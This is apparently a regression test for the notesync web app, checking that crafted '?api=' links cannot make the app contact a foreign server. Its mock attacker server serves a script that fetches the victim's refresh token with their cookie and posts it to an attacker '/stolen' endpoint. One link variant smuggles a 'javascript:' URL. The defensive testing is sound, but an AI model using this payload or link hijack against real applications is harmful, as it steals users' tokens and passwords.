// A link to notesync's own page that names another server (`?api=...`, `#api=...`) must not make
// the web app talk to it: before the fix, such a link made the app ask the other server for a
// token, import its "socket.io" module into notesync's origin (which then read /refresh with the
// victim's cookie) and post the password there. A second local HTTP server plays the attacker:
// it answers like notesync with CORS for any origin and records every request it gets.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import http from 'node:http';
import { env, launch, openApp, sleep } from './lib.mjs';

let browser;
let attacker;
let attackerOrigin;
let attackerHost;
/** 'token': /refresh answers with a token (the victim looks logged in); 'password': 401, so the login form shows. */
let mode = 'token';
const seen = [];

function answer(request, response, body) {
  seen.push({ method: request.method, url: request.url, authorization: request.headers.authorization ?? null, body });
  response.setHeader('Access-Control-Allow-Origin', request.headers.origin ?? '*');
  response.setHeader('Access-Control-Allow-Credentials', 'true');
  response.setHeader('Access-Control-Allow-Headers', 'Authorization, Content-Type');
  response.setHeader('Access-Control-Allow-Methods', 'GET, POST, OPTIONS');
  const path = new URL(request.url, attackerOrigin).pathname;
  if (request.method === 'OPTIONS') {
    response.writeHead(204).end();
  } else if (path.endsWith('/socket.io/socket.io.esm.min.js')) {
    // Runs in the page's origin if imported: takes a real token with the victim's cookie.
    response.writeHead(200, { 'Content-Type': 'application/javascript' }).end(`
      window.foreignScriptRan = true;
      fetch('/refresh', { method: 'POST', credentials: 'include' }).then((r) => r.json())
        .then((b) => fetch('${attackerOrigin}/stolen', { method: 'POST', body: b.accessToken }));
      export function io() { throw new Error('not a socket'); }`);
  } else if (path.endsWith('/refresh') && mode === 'token') {
    response.writeHead(200, { 'Content-Type': 'application/json' })
      .end(JSON.stringify({ accessToken: 'attacker-token', expiresIn: 900, username: env.user }));
  } else if (path.endsWith('/auth/login')) {
    response.writeHead(200, { 'Content-Type': 'application/json' })
      .end(JSON.stringify({ accessToken: 'attacker-token', expiresIn: 900, username: env.user }));
  } else {
    response.writeHead(401, { 'Content-Type': 'application/json' })
      .end(JSON.stringify({ error: { code: 'invalidRefreshToken', message: 'no' } }));
  }
}

before(async () => {
  browser = await launch();
  attacker = http.createServer((request, response) => {
    const chunks = [];
    request.on('data', (chunk) => chunks.push(chunk));
    request.on('end', () => answer(request, response, Buffer.concat(chunks).toString()));
  });
  await new Promise((resolve) => attacker.listen(0, '127.0.0.1', resolve));
  // 127.0.0.1, while notesync's pages are on localhost: another origin, and another site.
  attackerHost = `127.0.0.1:${attacker.address().port}`;
  attackerOrigin = `http://${attackerHost}`;
});
after(async () => {
  await browser?.close();
  attacker?.close();
});

const variants = () => [
  `/?api=${encodeURIComponent(attackerOrigin)}`,
  `/?api=${attackerOrigin}`,
  `/?api=//${attackerHost}`,
  `/?api=${attackerOrigin}/`,
  `/index.html?api=${encodeURIComponent(attackerOrigin)}`,
  `/?api=${encodeURIComponent(`javascript:fetch('${attackerOrigin}/js')//`)}`,
  `/#api=${attackerOrigin}`,
  `/?transports=websocket&api=${attackerOrigin}#api=${attackerOrigin}`,
];

/** The page on its own origin, logged in and connected, or the attacker heard from: whichever comes first. */
async function settle(page) {
  const deadline = Date.now() + 20_000;
  while (Date.now() < deadline && seen.length === 0 && !await page.isVisible('#connection.connected')) {
    await sleep(100);
  }
  // Room for requests already on their way; once the attacker is heard from, until it goes quiet.
  let count = -1;
  while (count !== seen.length && Date.now() < deadline) {
    count = seen.length;
    await sleep(count === 0 ? 300 : 1000);
  }
}

/** What went wrong on this link, or nothing: every variant is tried before the test reports. */
async function problems(page, link) {
  const found = [];
  if (seen.length > 0) {
    found.push(`${link}: the other origin got ${JSON.stringify(seen)}`);
  }
  if (await page.evaluate(() => window.foreignScriptRan ?? false)) {
    found.push(`${link}: a foreign script ran in notesync's origin`);
  }
  if (!await page.isVisible('#connection.connected') || await page.textContent('#who') !== env.user) {
    found.push(`${link}: the app is not logged in and connected on its own origin`);
  }
  return found;
}

test('a logged-in user following a crafted link: nothing reaches the other origin, no token leaves', async () => {
  const found = [];
  const context = await browser.newContext();
  await openApp(context, { origin: env.url }); // logged in on notesync's own page: the refresh cookie is set
  for (const link of variants()) {
    seen.length = 0;
    mode = 'token';
    const page = await context.newPage();
    await page.goto(env.url + link);
    await settle(page);
    found.push(...await problems(page, link));
    await page.close();
  }
  await context.close();
  assert.deepEqual(found, []);
});

test('a user logging in after a crafted link: the password goes to notesync only', async () => {
  const found = [];
  const context = await browser.newContext();
  for (const link of variants()) {
    seen.length = 0;
    mode = 'password';
    await context.clearCookies(); // logged out: the app asks for the password
    const page = await context.newPage();
    await page.goto(env.url + link);
    await page.waitForSelector('#login-view:not([hidden])');
    await page.fill('#username', env.user);
    await page.fill('#password', env.password);
    await page.press('#password', 'Enter');
    await settle(page);
    if (seen.some((request) => request.body.includes(env.password))) {
      found.push(`${link}: the password was sent to the other origin`);
    }
    found.push(...await problems(page, link));
    await page.close();
  }
  await context.close();
  assert.deepEqual(found, []);
});
